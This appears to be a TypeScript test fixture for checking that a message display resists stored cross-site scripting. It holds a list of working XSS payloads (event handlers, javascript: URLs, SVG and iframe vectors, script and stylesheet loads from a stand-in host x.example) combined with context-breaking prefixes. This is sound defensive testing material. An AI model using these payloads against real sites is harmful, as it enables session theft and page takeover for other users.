/** Texts that run in pages which show what others wrote as if it were their own (FRD-11). */
const PAYLOADS = [
  '<script>hit(1)</script>',
  '<script src=//x.example/a.js></script>',
  '<img src=x onerror=hit(1)>',
  '<img src=x onerror="hit(1)">',
  '<IMG SRC=x OnErRoR=hit(1)>',
  '<img/src=x/onerror=hit(1)>',
  '<img src=`x`onerror=hit(1)>',
  '<svg onload=hit(1)>',
  '<svg/onload=hit(1)>',
  '<svg><script>hit(1)</script></svg>',
  '<svg><animate onbegin=hit(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hit(1)"><text y=20>x</text></a>',
  '<math><mi xlink:href="javascript:hit(1)">x</mi></math>',
  '<iframe src="javascript:hit(1)"></iframe>',
  '<iframe srcdoc="<script>hit(1)</script>"></iframe>',
  '<body onload=hit(1)>',
  '<video><source onerror=hit(1)></video>',
  '<audio src=x onerror=hit(1)></audio>',
  '<details open ontoggle=hit(1)>x</details>',
  '<marquee onstart=hit(1)>x</marquee>',
  '<input autofocus onfocus=hit(1)>',
  '<select autofocus onfocus=hit(1)></select>',
  '<textarea autofocus onfocus=hit(1)></textarea>',
  '<a href="javascript:hit(1)">bas</a>',
  '<a href="data:text/html,<script>hit(1)</script>">bas</a>',
  '<form action="javascript:hit(1)"><button>bas</button></form>',
  '<button formaction="javascript:hit(1)">bas</button>',
  '<object data="javascript:hit(1)"></object>',
  '<embed src="javascript:hit(1)">',
  '<link rel=stylesheet href=//x.example/a.css>',
  '<style>@import "//x.example/a.css";</style>',
  '<div style="background:url(javascript:hit(1))">x</div>',
  '<meta http-equiv=refresh content="0;url=javascript:hit(1)">',
  '<base href=//x.example/>',
  '<template><img src=x onerror=hit(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
  '<x onclick=hit(1) tabindex=1 autofocus onfocus=hit(1)>x</x>',
  '{{constructor.constructor("hit(1)")()}}',
  '&lt;img src=x onerror=hit(1)&gt;',
  '\\u003cimg src=x onerror=hit(1)\\u003e',
]
/** What closes the place where a text might have been put. */
const ENDS = ['', '">', "'>", '</title></textarea></script>', '-->]]>']

export const CORPUS: string[] = ENDS.flatMap((end) => PAYLOADS.map((one) => `${end}${one}`))

/** As few texts of this length as hold them all, a line each. */
export function packed(lines: readonly string[], max: number): string[] {
  const texts: string[] = []
  for (const line of lines) {
    const last = texts.at(-1)
    if (last === undefined || last.length + line.length + 1 > max) texts.push(line)
    else texts[texts.length - 1] = `${last}\n${line}`
  }
  return texts
}

/** Elements that no message of ours is made of. */
export const FOREIGN =
  'script,img,iframe,object,embed,video,audio,source,math,marquee,details,form,input,select,textarea,a,style,link,meta,base,template,noscript,x'
